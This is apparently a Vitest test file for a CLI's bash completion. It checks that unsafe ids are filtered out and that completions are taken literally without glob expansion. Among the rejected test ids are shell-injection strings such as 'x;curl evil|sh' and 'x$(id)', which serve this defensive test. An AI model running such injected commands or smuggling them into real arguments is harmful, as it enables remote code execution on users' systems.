// Ids of others on a command line: which of them are completed, and that the script of bash takes each as it is.
import { spawnSync } from 'node:child_process';
import { expect, it } from 'vitest';
import { scripts } from './completion-scripts.js';
import { typeable } from './typeable.js';

it.each(['x;curl evil|sh', 'x$(id)', 'x`id`', 'x*', 'x?', 'x&id', 'x y', "x'", '-x', '--yes', '=x', '~', '!1', 'x\ny'])(
  'the id %j is left out',
  (id) => expect(typeable([id, 's.plain'])).toEqual(['s.plain']),
);

it.each(['s.get-sum', 's.test://doc', 's.a/b_c@1,2+3', 's.k=v%20', '@scope/x', 'appr-1'])('the id %j stays', (id) => {
  expect(typeable([id])).toEqual([id]);
});

it('bash takes each line of an answer as one completion, and expands no pattern', () => {
  const lines = ['s.*', '/*', 'two words', '$HOME'];
  const script = [
    `portico() { printf '%s\\n' ${lines.map((line) => `'${line}'`).join(' ')}; }`,
    scripts.bash,
    'COMP_WORDS=(portico call s); COMP_CWORD=2; _portico; printf "%s\\n" "${COMPREPLY[@]}"',
  ].join('\n');
  const { stdout, stderr } = spawnSync('bash', ['-c', script], { encoding: 'utf8' });
  expect([stdout.trimEnd().split('\n'), stderr]).toEqual([lines, '']);
});

it('bash has no completion where there is no answer', () => {
  const script = `portico() { :; }\n${scripts.bash}\nCOMP_WORDS=(portico x a:b); COMP_CWORD=2; _portico; echo "\${#COMPREPLY[@]}"`;
  expect(spawnSync('bash', ['-c', script], { encoding: 'utf8' }).stdout).toBe('0\n');
});
